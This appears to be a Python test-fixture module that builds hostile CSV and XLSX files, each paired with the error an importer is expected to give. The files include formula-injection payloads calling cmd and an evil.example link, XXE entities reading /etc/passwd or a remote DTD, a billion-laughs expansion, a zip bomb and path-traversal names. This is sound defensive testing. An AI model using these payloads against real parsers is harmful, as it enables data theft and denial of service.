"""Files that nobody should have to import: each with what makes it hostile, and what is said of it."""

from __future__ import annotations

import os
import struct
from collections.abc import Callable
from pathlib import Path
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZipFile

from tests.importing.sheets import (
    BEGINNING,
    BOOK,
    GOOD,
    HEAD,
    RELATIONS,
    cell,
    csv_file,
    csv_text,
    parts,
    row,
    sheet,
    strings,
    styles,
    with_,
    workbook,
)

type Write = Callable[[Path], object]
MEGABYTE = 2**20
SHEET = "xl/worksheets/sheet1.xml"


def _bytes(content: bytes) -> Write:
    return lambda path: path.write_bytes(content)


def _text(text: str, encoding: str = "utf-8") -> Write:
    return _bytes(text.encode(encoding))


def _csv(**changes: str) -> Write:
    return lambda path: csv_file(path, GOOD, with_(**changes))


def _head(*head: str) -> Write:
    return lambda path: csv_file(path, GOOD, head=head)


def _book(*rows: str, more: dict[str, str | bytes] | None = None, after: str = "") -> Write:
    return lambda path: workbook(path, parts(*rows, after=after) | (more or {}))


def _cell(written: str, place: int = 4, more: dict[str, str | bytes] | None = None) -> Write:
    """A workbook in which that is the cell of a row, by default its summary."""
    cells = [cell(text) for text in GOOD]
    cells[place] = written
    return _book(row(*GOOD), row(*cells), more=more)


def _part(xml: str, name: str = SHEET) -> Write:
    return lambda path: workbook(path, parts() | {name: xml})


def _defined(defined: str, used: str) -> str:
    whole = sheet(row(*GOOD[:4], f"<c t='inlineStr'><is><t>{used}</t></is></c>", GOOD[5]))
    return whole.replace(BEGINNING, f"{BEGINNING}<!DOCTYPE worksheet [{defined}]>")


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def _bomb(path: Path) -> None:
    """A gigabyte of blanks in a megabyte."""
    with ZipFile(path, "w", ZIP_DEFLATED) as archive:
        for name, part in parts().items():
            if name != SHEET:
                archive.writestr(name, part)
        with archive.open(SHEET, "w", force_zip64=True) as blanks:
            for _ in range(256):
                blanks.write(b" " * 4 * MEGABYTE)


def _patched(path: Path, offset: int, value: bytes, mark: bytes = b"PK\x01\x02") -> None:
    """Changes what the list of parts says of the first of them."""
    workbook(path, parts(row(*GOOD)))
    content = bytearray(path.read_bytes())
    at = content.index(mark) + offset
    content[at : at + len(value)] = value
    path.write_bytes(bytes(content))


def _locked(path: Path) -> None:
    _patched(path, 8, b"\x01\x00")


def _long_directory(path: Path) -> None:
    _patched(path, 12, struct.pack("<I", 2**30), b"PK\x05\x06")


def _damaged(path: Path) -> None:
    workbook(path, parts(*[row(*GOOD)] * 1000))
    content = bytearray(path.read_bytes())
    at = content.rindex(b"sheet1.xml", 0, content.index(b"PK\x01\x02")) + 40
    content[at : at + 40] = bytes(40)
    path.write_bytes(bytes(content))


def _cut(path: Path) -> None:
    workbook(path, parts(row(*GOOD)))
    path.write_bytes(path.read_bytes()[:-40])


def _twice(path: Path) -> None:
    with_sheet = [*parts(row(*GOOD)).items(), (SHEET, sheet())]
    workbook(path, with_sheet)


def _many_parts(path: Path) -> None:
    workbook(path, parts() | {f"xl/media/{n}.png": b"" for n in range(3000)})


def _otherwise_packed(path: Path) -> None:
    with ZipFile(path, "w", ZIP_BZIP2) as archive:
        for name, part in parts(row(*GOOD)).items():
            archive.writestr(name, part)


def _huge(path: Path) -> None:
    """Takes no place on the disk."""
    path.write_bytes(b"PK\x03\x04")
    os.truncate(path, 3 * 2**30)


def _endless_line(path: Path) -> None:
    path.write_bytes(b"party,")
    os.truncate(path, 200 * MEGABYTE)


def _wide_csv(path: Path) -> None:
    path.write_text(csv_text(GOOD) + "," * 1_000_000 + "\n")


def _wide_book(path: Path) -> None:
    workbook(path, parts(row(*GOOD), f"<row>{cell('x') * 1_000_000}</row>"))


HOSTILE: dict[str, tuple[Write, str]] = {
    # What the file is.
    "empty": (_bytes(b""), "It is empty"),
    "only a mark": (_bytes(b"\xef\xbb\xbf"), "first row has to hold the names"),
    "only a head": (_text(csv_text()), "it has no rows"),
    "a blank first row": (_text("\n" + csv_text(GOOD)), "first row has to hold the names"),
    "an old workbook": (_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)), "old kind"),
    "a PDF": (_bytes(b"%PDF-1.7\n" + bytes(99)), "It is a PDF"),
    "a page": (_text("<html><table></table></html>"), "page or XML"),
    "gzip": (_bytes(b"\x1f\x8b\x08\x00" + bytes(99)), "Unpack it first"),
    "noise": (_bytes(bytes(range(1, 256)) * 50), "not in the encoding utf-8"),
    # CSV.
    "Latin-1": (_text(csv_text(with_(summary="Zürich")), "cp1252"), "the byte 0xFC in “.*rich"),
    "UTF-16 without its mark": (_text(csv_text(GOOD), "utf-16-le"), "NUL"),
    "UTF-16 cut in two": (_bytes(csv_text(GOOD).encode("utf-16")[:-1]), "not in the encoding"),
    "half a character": (_bytes(csv_text(GOOD).encode() + b"\xe2\x82"), "not in the encoding"),
    "NUL in a text": (_csv(summary="no\0ne"), "U\\+0000 \\(NUL\\)"),
    "NUL in a name": (_csv(party="a\0"), "U\\+0000 \\(NUL\\)"),
    "NUL in a link": (_csv(speaker="a-min\0ister"), "U\\+0000 \\(NUL\\)"),
    "a right-to-left mark in a text": (_csv(summary="abc \u202edef"), "U\\+202E"),
    "a right-to-left mark in a name": (_csv(party="a\u200f"), "U\\+200F"),
    "a right-to-left mark in a head": (_head(*HEAD[:5], "day\u202e"), "U\\+202E"),
    "a byte order mark within": (_csv(stance="\ufeffrejects"), "U\\+FEFF"),
    "an escape to the terminal": (_csv(summary="\x1b[31mred"), "U\\+001B"),
    "a formula": (_csv(summary="=1+1"), "formula"),
    "a formula that calls": (_csv(summary="=cmd|' /C calc'!A0"), "formula"),
    "a formula after a blank": (_csv(summary=' =HYPERLINK("http://evil.example")'), "formula"),
    "a formula by a plus": (_csv(summary="+cmd|' /C calc'!A0"), "formula"),
    "a formula by a minus": (_csv(summary="-2+3+cmd|' /C calc'!A0"), "formula"),
    "a formula by an at": (_csv(summary="@SUM(1+1)*cmd|' /C calc'!A0"), "formula"),
    "a quotation mark left open": (
        _text(csv_text() + 'a,a-minister,fees,rejects,"never closed,2025-02-01\n' * 9_001),
        "quotation mark",
    ),
    "an endless quotation": (_text(csv_text() + '"' + "never closed\n" * 99_999), "quotation mark"),
    "an endless line": (_endless_line, "NUL|longer than"),
    "a line too long": (_text(csv_text() + "x" * 2 * MEGABYTE), "longer than"),
    "a cell too long": (_csv(summary="x" * 50_000), "longer than 40,000"),
    "a text too long": (_csv(summary="x" * 5_000), "at most 4000"),
    "a name too long": (_csv(party="x" * 5_000), "no name is"),
    "a million columns": (_wide_csv, "columns"),
    "a head of one long name": (_head(*HEAD[:5], "day" * 999), "longer than 200"),
    "a column twice": (_head(*HEAD[:5], "Country"), "Both column A .* and column F"),
    "a column less": (_head(*HEAD[:4], "x", "day"), "no column for summary"),
    "a column that is nearly ours": (_head("partei", *HEAD[1:]), "did you mean party"),
    # Days and words.
    "a month that is none": (_csv(day="21/13/2022"), "There is no month 13"),
    "a day that is none": (_csv(day="30.02.2025"), "There is no day 30 in month 02"),
    "a day that may be two": (_csv(day="03/04/2025"), "may be 2025-04-03 or 2025-03-04"),
    "a day as a number": (_csv(day="45689"), "bare number.*2025-02-01"),
    "a day to come": (_csv(day="9999-12-31"), "lies in the future"),
    "a day before all days": (_csv(day="0000-01-01"), "There is no day"),
    "two stances": (_csv(stance="- / +"), "is unknown; use one of"),
    "code for a stance": (_csv(stance="__import__('os')"), "is unknown; use one of"),
    "a place in a name": (_csv(speaker="../../etc/passwd"), "no speaker of that name"),
    # XLSX: the archive.
    "a ZIP archive": (lambda path: workbook(path, {"a.txt": "a"}), "no workbook"),
    "a bomb": (_bomb, "Unpacked"),
    "a huge file": (_huge, "larger than 512 MB"),
    "a list of parts without end": (_long_directory, "more parts than any"),
    "three thousand parts": (_many_parts, "3,00. parts"),
    "a part twice": (_twice, "twice"),
    "a locked part": (_locked, "password"),
    "an uncommon packing": (_otherwise_packed, "packed in a way"),
    "a damaged part": (_damaged, "damaged"),
    "an archive cut short": (_cut, "not whole"),
    "macros": (_book(row(*GOOD), more={"xl/vbaProject.bin": b"Sub"}), "macros"),
    "old macros": (_book(row(*GOOD), more={"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    # XLSX: its parts.
    "an entity from outside": (
        _part(_defined('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")),
        "document type",
    ),
    "a definition from outside": (
        _part(_defined('<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;', "x")),
        "document type",
    ),
    "a billion laughs": (_part(_defined(f'<!ENTITY l0 "ha">{LAUGHS}', "&l9;")), "document type"),
    "laughs in the texts": (
        _part(f"{BEGINNING}<!DOCTYPE sst [<!ENTITY x 'y'>]><sst/>", "xl/sharedStrings.xml"),
        "document type",
    ),
    "laughs in the links": (
        _part(
            f"<!DOCTYPE x [<!ENTITY x 'y'>]>{RELATIONS[len(BEGINNING) :]}",
            "xl/_rels/workbook.xml.rels",
        ),
        "document type",
    ),
    "no XML": (_part("<worksheet><sheetData><row>"), "is no XML"),
    "another encoding": (_part("<?xml version='1.0' encoding='x-none'?><a/>"), "encoding|no XML"),
    "without end in depth": (_part("<a>" * 200_000), "nested deeper"),
    "one endless name": (_part("<a " + "x" * 8 * MEGABYTE), "longer than any cell"),
    "one endless remark": (_part("<a><!--" + "x" * 8 * MEGABYTE), "longer than any cell"),
    "a sheet elsewhere": (
        lambda path: workbook(
            path, parts() | {"xl/_rels/workbook.xml.rels": RELATIONS.replace("worksheets", "../..")}
        ),
        "has no part",
    ),
    "no sheet that is shown": (
        _part(BOOK.replace("sheetId", 'state="veryHidden" sheetId'), "xl/workbook.xml"),
        "no sheet that is shown",
    ),
    # XLSX: its cells.
    "a formula in a cell": (_cell("<c><f>SUM(A1:A9)</f><v>45</v></c>"), "holds a formula"),
    "a formula without value": (_cell("<c><f>WEBSERVICE(A1)</f></c>"), "holds a formula"),
    "a formula for a day": (_cell("<c><f>TODAY()</f><v>45689</v></c>", 5), "holds a formula"),
    "a formula as a text": (_cell(cell("\u202e=1+1")), "U\\+202E"),
    "an error": (_cell('<c t="e"><v>#REF!</v></c>'), "the error #REF!"),
    "no number": (_cell("<c><v>1e999999</v></c>", 3), "number and is none"),
    "a text that is missing": (_cell('<c t="s"><v>7</v></c>'), "text is missing"),
    "an unknown kind": (_cell('<c t="script"><v>1</v></c>'), "kind that is unknown"),
    "NUL by its number": (_cell(cell("no_x0000_ne")), "U\\+0000"),
    "a shared NUL": (
        _cell('<c t="s"><v>0</v></c>', more={"xl/sharedStrings.xml": strings("_x0000_")}),
        "U\\+0000",
    ),
    "a day beyond all days": (
        _cell('<c s="0"><v>99999999</v></c>', 5, more={"xl/styles.xml": styles(14)}),
        "shown as a day and is none",
    ),
    "an hour for a day": (
        _cell('<c s="0"><v>0.5</v></c>', 5, more={"xl/styles.xml": styles(20)}),
        "shown as a day and is none",
    ),
    "a day as a number in a cell": (_cell("<c><v>45689</v></c>", 5), "bare number.*2025-02-01"),
    "a text without end": (_cell(cell("x" * 50_000)), "more than 40,000"),
    "a shared text without end": (
        _part(strings("x" * 50_000), "xl/sharedStrings.xml"),
        "longer than 40,000",
    ),
    "merged cells": (
        _book(row(*GOOD), after='<mergeCells><mergeCell ref="A2:A5"/></mergeCells>'),
        "Merged cells: A2:A5",
    ),
    "a million cells in a row": (_wide_book, "500 columns|Unpacked"),
    "a cell far to the right": (
        _book(row(*GOOD, '<c r="XFD2"><v>1</v></c>', number=2)),
        "column 16,384",
    ),
    "a cell beyond all columns": (
        _book(row('<c r="BDWGN2"><v>1</v></c>', number=2)),
        "out of place",
    ),
    "a row beyond all rows": (_book(row(*GOOD, number=99_999_999)), "1,048,576"),
    "a row twice": (_book(row(*GOOD, number=2), row(*GOOD, number=2)), "each once"),
    "a row that is none": (_book(row(*GOOD, number=-1)), "numbered from 1"),
    "too many styles": (_part(styles(*[0] * 80_000), "xl/styles.xml"), "70,000 styles"),
}
"""By what is hostile in it: how the file is written, and words of what is said of it."""
